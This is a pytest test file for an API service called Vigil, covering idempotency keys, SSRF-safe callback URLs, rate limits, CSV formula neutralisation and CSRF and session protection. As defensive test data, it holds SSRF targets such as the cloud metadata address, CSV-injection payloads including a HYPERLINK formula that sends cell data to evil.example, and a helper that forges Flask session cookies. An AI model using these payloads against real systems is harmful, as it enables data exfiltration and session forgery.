"""Idempotent submissions, callback URLs that cannot reach private networks, rate limits,
results CSV without formulas, and the /ui session (CSRF tokens, its own key)."""

from __future__ import annotations

import csv
import dataclasses
import hashlib
import hmac
import io
import json
import re
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager

import httpx
import pandas as pd
import pytest
from helpers import EVENT, KEYS, WEBHOOK_SECRET, client_for, form_token, problem, wait_for
from werkzeug.serving import make_server

from core import keys
from core.config import Settings, key_digest
from core.localredis import free_port


@contextmanager
def serve(settings: Settings) -> Iterator[str]:
    """A second API instance (own settings, same Redis) on a free port."""
    from api import create_app

    server = make_server("127.0.0.1", free_port(), create_app(settings), threaded=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()


@pytest.fixture
def app_with(settings) -> Callable[..., httpx.Client]:
    """app_with(rate_limit=5): an alpha client of an API instance with these settings changed."""
    opened = []

    def make(**changes) -> httpx.Client:
        context = serve(dataclasses.replace(settings, **changes))
        client = client_for(context.__enter__(), "alpha")
        opened.append((context, client))
        return client

    yield make
    for context, client in opened:
        client.close()
        context.__exit__(None, None, None)


def idem(key: str) -> dict[str, str]:
    return {"Idempotency-Key": key}


# --- Idempotency-Key --------------------------------------------------------------------------

def test_retry_with_the_same_key_returns_the_same_job(alpha, event_type):
    key = f"order-{uuid.uuid4()}"
    event = {**EVENT, "event_type": event_type}
    first = alpha.post("/v1/events/validate", json=event, headers=idem(key))
    assert first.status_code == 202, first.text
    assert "Idempotent-Replayed" not in first.headers
    again = alpha.post("/v1/events/validate", json=event, headers=idem(key))
    assert again.status_code == 202
    assert again.json() == first.json()
    assert again.headers["Location"] == first.headers["Location"]
    assert again.headers["Idempotent-Replayed"] == "true"
    job_id = first.json()["job_id"]
    listed = [j["job_id"] for j in alpha.get("/v1/jobs").json()["jobs"]]
    assert listed.count(job_id) == 1
    # The one job runs once and replays still point at it after it finished.
    assert wait_for(alpha, first.json()["status_url"])["status"] == "succeeded"
    third = alpha.post("/v1/events/validate", json=event, headers=idem(key))
    assert third.json()["job_id"] == job_id and third.headers["Idempotent-Replayed"] == "true"
    # Without a key, the same body is a new submission.
    assert alpha.post("/v1/events/validate", json=event).json()["job_id"] != job_id


def test_key_reused_with_another_body_is_422(alpha, event_type):
    key = f"k-{uuid.uuid4()}"
    body = {"events": [{**EVENT, "event_type": event_type}]}
    assert alpha.post("/v1/jobs", json=body, headers=idem(key)).status_code == 202
    other = {"events": [{**EVENT, "event_type": event_type, "payload": {"amount": 2.0}}]}
    errors = problem(alpha.post("/v1/jobs", json=other, headers=idem(key)), 422)["errors"]
    assert "used with another request" in errors["headers"]["Idempotency-Key"][0]
    # Same body, other path: another request too.
    problem(alpha.post("/v1/events/validate", json=body["events"][0], headers=idem(key)), 422)


@pytest.mark.parametrize("key", ["", "x" * 201, "tab\there", b"caf\xe9"])
def test_invalid_keys_are_422(alpha, key):
    errors = problem(alpha.post("/v1/events/validate", json=EVENT, headers=idem(key)), 422)["errors"]
    assert "printable ASCII" in errors["headers"]["Idempotency-Key"][0]


def test_keys_are_per_tenant_and_cover_every_submission_route(alpha, beta, event_type):
    key = f"shared-{uuid.uuid4()}"
    a = alpha.post("/v1/events/validate", json=EVENT, headers=idem(key)).json()["job_id"]
    b = beta.post("/v1/events/validate", json=EVENT, headers=idem(key))
    assert b.status_code == 202 and "Idempotent-Replayed" not in b.headers
    assert b.json()["job_id"] != a
    history = {"events": [{"timestamp": 1_790_000_000 + i, "payload": {"x": float(i)}}
                          for i in range(5)]}
    for path, kwargs in ((f"/v1/event-types/{event_type}/history", {"json": history}),
                         (f"/v1/event-types/{event_type}/model", {}),
                         ("/v1/jobs", {"content": b"event_type,timestamp,x\nt,1790000000,1\n",
                                       "headers": {"Content-Type": "text/csv"}})):
        key = f"{path}-{uuid.uuid4()}"
        headers = {**kwargs.pop("headers", {}), **idem(key)}
        first = alpha.post(path, headers=headers, **kwargs)
        assert first.status_code == 202, first.text
        again = alpha.post(path, headers=headers, **kwargs)
        assert again.json() == first.json() and again.headers["Idempotent-Replayed"] == "true"


def test_concurrent_duplicates_create_one_job(alpha, event_type):
    key = f"race-{uuid.uuid4()}"
    event = {**EVENT, "event_type": event_type}
    with ThreadPoolExecutor(8) as pool:
        responses = list(pool.map(
            lambda _: alpha.post("/v1/events/validate", json=event, headers=idem(key)), range(16)))
    assert {r.status_code for r in responses} <= {202, 409}
    accepted = [r for r in responses if r.status_code == 202]
    assert len({r.json()["job_id"] for r in accepted}) == 1
    assert sum("Idempotent-Replayed" not in r.headers for r in accepted) == 1
    for r in responses:
        if r.status_code == 409:
            assert "in progress" in problem(r, 409)["detail"]
    listed = [j["job_id"] for j in alpha.get("/v1/jobs").json()["jobs"]]
    assert listed.count(accepted[0].json()["job_id"]) == 1


def test_a_key_whose_first_request_is_still_running_is_409(alpha, redis_server):
    import hashlib

    from api.idempotency import fingerprint

    key = f"pending-{uuid.uuid4()}"
    body = json.dumps(EVENT).encode()
    pending = {"state": "pending", "claim": "x",
               "fingerprint": fingerprint("POST", "/v1/events/validate", b"", body)}
    redis_key = keys.idempotency("alpha", hashlib.sha256(key.encode()).hexdigest())
    redis_server.client().set(redis_key, json.dumps(pending), ex=60)
    response = alpha.post("/v1/events/validate", content=body, headers={
        **idem(key), "Content-Type": "application/json"})
    assert "retry" in problem(response, 409)["detail"]
    redis_server.client().delete(redis_key)
    assert alpha.post("/v1/events/validate", content=body, headers={
        **idem(key), "Content-Type": "application/json"}).status_code == 202


def test_a_rejected_submission_does_not_use_up_its_key(alpha, settings):
    key = f"retry-after-fix-{uuid.uuid4()}"
    too_many = {"events": [EVENT] * (settings.max_events_per_job + 1)}
    problem(alpha.post("/v1/jobs", json=too_many, headers=idem(key)), 422)
    assert alpha.post("/v1/jobs", json={"events": [EVENT]}, headers=idem(key)).status_code == 202


# --- callback URLs (SSRF) ---------------------------------------------------------------------

REFUSED_EVERYWHERE = ["http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/",
                      "http://10.0.0.1/hook", "http://192.168.1.1/", "http://100.64.0.1/"]


def callback_error(client: httpx.Client, url: str) -> str:
    body = {"callback_url": url, "events": [EVENT]}
    errors = problem(client.post("/v1/jobs", json=body), 422)["errors"]
    return errors["json"]["callback_url"][0]


@pytest.mark.parametrize("url", ["http://127.0.0.1/hook", "http://127.0.0.1:8080/",
                                 "http://localhost:9/hook", "http://[::1]/", "http://0.0.0.0/",
                                 "http://[::ffff:127.0.0.1]/", *REFUSED_EVERYWHERE])
def test_callbacks_into_private_networks_are_refused_by_default(app_with, worker, url):
    message = callback_error(app_with(allow_private_callbacks=()), url)
    # marshmallow's Url field already refuses the IPv4-mapped spelling as not a URL.
    assert "public addresses only" in message or (url.startswith("http://[::ffff:")
                                                  and "Not a valid URL" in message)


@pytest.mark.parametrize("url", REFUSED_EVERYWHERE)
def test_metadata_and_other_private_networks_stay_refused_when_loopback_is_allowed(alpha, url):
    # The test environment allows 127.0.0.0/8 and ::1 (tests/conftest.py), nothing else.
    assert "public addresses only" in callback_error(alpha, url)


def test_refused_callback_in_a_csv_submission(app_with, worker):
    client = app_with(allow_private_callbacks=())
    response = client.post("/v1/jobs", params={"callback_url": "http://localhost/hook"},
                           content=b"event_type,timestamp,x\nt,1790000000,1\n",
                           headers={"Content-Type": "text/csv"})
    assert "loopback" in problem(response, 422)["errors"]["json"]["callback_url"][0]


def test_refused_callback_does_not_use_up_an_idempotency_key(app_with, worker):
    client = app_with(allow_private_callbacks=())
    key = f"ssrf-{uuid.uuid4()}"
    bad = {"callback_url": "http://127.0.0.1/", "events": [EVENT]}
    problem(client.post("/v1/jobs", json=bad, headers=idem(key)), 422)
    assert client.post("/v1/jobs", json={"events": [EVENT]}, headers=idem(key)).status_code == 202


def test_delivery_to_a_refused_address_fails_at_once_without_retries(alpha, redis_server,
                                                                    settings, event_type):
    """A job whose callback became refused after submission (say its DNS changed): the worker
    checks again before sending and gives up at once."""
    from tasks import create_celery
    from tasks.store import jobs

    job_id = jobs.create_job(redis_server.client(), settings, "alpha", kind="validate",
                              events=[{**EVENT, "event_type": event_type}],
                              callback_url="http://169.254.169.254/latest/meta-data/")
    create_celery(settings).send_task("vigil.validate_job", args=["alpha", job_id])
    wait_for(alpha, f"/v1/jobs/{job_id}")
    deadline = time.monotonic() + 15
    webhook = None
    while time.monotonic() < deadline:
        webhook = alpha.get(f"/v1/jobs/{job_id}").json()["webhook"]
        if webhook:
            break
        time.sleep(0.05)
    assert webhook["status"] == "failed" and webhook["attempts"] == 1, webhook
    assert webhook["last_error"].startswith("refused: ") and "metadata" in webhook["last_error"]
    time.sleep(1)  # no retry changes it
    assert alpha.get(f"/v1/jobs/{job_id}").json()["webhook"] == webhook


# --- rate limit -------------------------------------------------------------------------------

def test_exceeding_the_rate_limit_is_429_with_retry_after(app_with, worker, redis_server):
    client = app_with(rate_limit=5)
    responses = [client.get("/v1/jobs") for _ in range(30)]
    limited = [r for r in responses if r.status_code == 429]
    assert limited, [r.status_code for r in responses]
    assert {r.status_code for r in responses} == {200, 429}
    body = problem(limited[0], 429)
    assert "5 requests per second" in body["detail"]
    assert int(limited[0].headers["Retry-After"]) >= 1
    # Another tenant has its own budget.
    with client_for(str(client.base_url), "beta") as beta:
        assert beta.get("/v1/jobs").status_code == 200
    # Windows expire: counters do not pile up in Redis, one per second forever. (TTL -1: a
    # key without expiry; -2: gone already, between the scan and the TTL.)
    r = redis_server.client()
    ttls = [r.ttl(w) for w in r.scan_iter("vigil:alpha:rate:*")]
    assert ttls and -1 not in ttls and max(ttls) <= 2, ttls
    # The limit is per second: the next window answers again.
    time.sleep(1.1)
    assert client.get("/v1/jobs").status_code == 200


def test_rate_limit_zero_disables_it(app_with, worker):
    client = app_with(rate_limit=0)
    assert all(client.get("/v1/event-types").status_code == 200 for _ in range(30))



# --- results CSV: no formulas -----------------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NASTY_IDS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(1)", "+1+1", "-2-3",
             "\tx", "\r=1+1", "ok\r=2+2", "ok,\r\n=3+3", "plain"]


def test_results_csv_neutralises_formulas_in_every_client_text_cell(alpha, event_type):
    # The type may start with '-' (its alphabet allows it) and the field is named "=cmd", so
    # the warnings column carries a client's field name too.
    kind = f"-{event_type}"
    history = {"events": [{"timestamp": 1_790_000_000 + i, "payload": {"=cmd": 100.0 + i % 7}}
                          for i in range(40)]}
    imported = alpha.post(f"/v1/event-types/{kind}/history", json=history)
    assert wait_for(alpha, imported.json()["status_url"])["status"] == "succeeded"
    events = [{"event_type": kind, "timestamp": 1_790_001_000, "event_id": event_id,
               "payload": {"=cmd": 10_000.0 if event_id == "@SUM(1)" else 103.0}}
              for event_id in NASTY_IDS]
    job = wait_for(alpha, alpha.post("/v1/jobs", json={"events": events}).json()["status_url"])
    assert job["status"] == "succeeded", job
    response = alpha.get(f"/v1/jobs/{job['job_id']}/results.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    # Every event is one row, its cells intact: a CR inside a cell cannot start a row.
    assert [row["event_id"] for row in rows] == [
        "'" + i if i.startswith(FORMULA_STARTS) else i for i in NASTY_IDS]
    assert {row["event_type"] for row in rows} == {"'" + kind}
    flagged = next(row for row in rows if row["event_id"] == "'@SUM(1)")
    assert flagged["valid"] == "false" and flagged["warning_codes"] == "out_of_range"
    assert json.loads(flagged["warnings"])[0]["field"] == "=cmd"
    for row in rows:
        for column in ("event_id", "event_type", "warning_codes", "warnings", "processed_at"):
            assert not row[column].startswith(FORMULA_STARTS), (column, row[column])
        # Vigil's own ISO timestamp, never client text (nothing to neutralise in it).
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z", row["timestamp"])
    # What a spreadsheet importer (pandas here) reads back: the same cells.
    frame = pd.read_csv(io.StringIO(response.text), dtype=str, keep_default_na=False)
    assert list(frame["event_id"]) == [row["event_id"] for row in rows]


def test_only_text_is_neutralised():
    from api.jobs import spreadsheet_text

    assert spreadsheet_text(-1.5) == -1.5 and spreadsheet_text(None) is None
    assert spreadsheet_text("-1.5") == "'-1.5" and spreadsheet_text("a=1") == "a=1"


# --- /ui: CSRF tokens, POST-only logout, a session key of its own -----------------------------

def signed_in(client: httpx.Client) -> bool:
    return "tenant <b>alpha</b>" in client.get("/ui").text


def test_ui_login_needs_the_forms_csrf_token(api_url):
    key = {"api_key": KEYS["alpha"]}
    # A form on another site posts no token (and, SameSite=Lax, no cookie either).
    with httpx.Client(base_url=api_url, timeout=30) as victim:
        response = victim.post("/ui/login", data=key)
        assert response.status_code == 400 and "sign in again" in response.text
        assert 'name="csrf_token"' in response.text and not signed_in(victim)
    # Nor does a token the attacker got from the page in their own session help.
    with httpx.Client(base_url=api_url, timeout=30) as attacker, \
            httpx.Client(base_url=api_url, timeout=30) as victim:
        stolen = form_token(attacker)
        form_token(victim)  # the victim has a session (and a token) of their own
        for token in (stolen, "", "x" * 43, "café"):
            response = victim.post("/ui/login", data={**key, "csrf_token": token})
            assert response.status_code == 400, token
            assert not signed_in(victim)
        response = victim.post("/ui/login", data={**key, "csrf_token": form_token(victim)})
        assert response.status_code == 303 and signed_in(victim)


def test_ui_logout_is_post_only_and_needs_its_token(api_url):
    with httpx.Client(base_url=api_url, timeout=30) as client:
        login_token = form_token(client)
        assert client.post("/ui/login", data={"api_key": KEYS["alpha"],
                                              "csrf_token": login_token}).status_code == 303
        page = client.get("/ui").text
        assert re.search(r'<form class="inline" method="post" action="/ui/logout">'
                         r'<input type="hidden" name="csrf_token"', page)
        # An <img src=/ui/logout> or a link on another site: refused, still signed in.
        assert problem(client.get("/ui/logout"), 405)
        assert signed_in(client)
        for data in ({}, {"csrf_token": "forged"}, {"csrf_token": login_token}):
            body = problem(client.post("/ui/logout", data=data), 400)
            assert "CSRF token" in body["detail"] and signed_in(client)
        assert client.post("/ui/logout", data={"csrf_token": form_token(client)}).status_code == 303
        assert not signed_in(client)


def test_ui_session_key_is_not_derived_from_the_webhook_secret(api_url, vigil_env, redis_server):
    other = {**vigil_env, "VIGIL_WEBHOOK_SECRET": "whsec_YW5vdGhlci1kZXBsb3ltZW50LXNlY3JldA=="}
    with serve(Settings.from_env(other)) as other_url, \
            httpx.Client(base_url=api_url, timeout=30) as client:
        client.post("/ui/login", data={"api_key": KEYS["alpha"], "csrf_token": form_token(client)})
        assert signed_in(client)
        # An API process with another webhook secret on the same Redis honours the session.
        with httpx.Client(base_url=other_url, timeout=30, cookies=client.cookies) as moved:
            assert signed_in(moved)
    # Whoever knows the webhook secret cannot sign a session with the key it once derived.
    old_key = hmac.new(WEBHOOK_SECRET.encode(), b"vigil/ui-session-key/v1",
                       hashlib.sha256).hexdigest()
    real_key = redis_server.client().get(keys.ui_session_key()).decode()
    assert real_key != old_key
    for signing_key, accepted in ((old_key, False), (real_key, True)):  # real_key: the control
        tag = hmac.new(signing_key.encode(), b"ui-key:" + key_digest(KEYS["alpha"]).encode(),
                       hashlib.sha256).hexdigest()[:32]
        with httpx.Client(base_url=api_url, timeout=30) as forger:
            forger.cookies.set("vigil_ui", session_cookie(signing_key, {"tenant": "alpha",
                                                                       "key": tag}), path="/ui")
            assert signed_in(forger) is accepted


def session_cookie(secret: str, data: dict) -> str:
    """A /ui session cookie as Flask signs it with this key."""
    from flask import Flask
    from flask.sessions import SecureCookieSessionInterface

    app = Flask("forger")
    app.secret_key = secret
    return SecureCookieSessionInterface().get_signing_serializer(app).dumps(data)
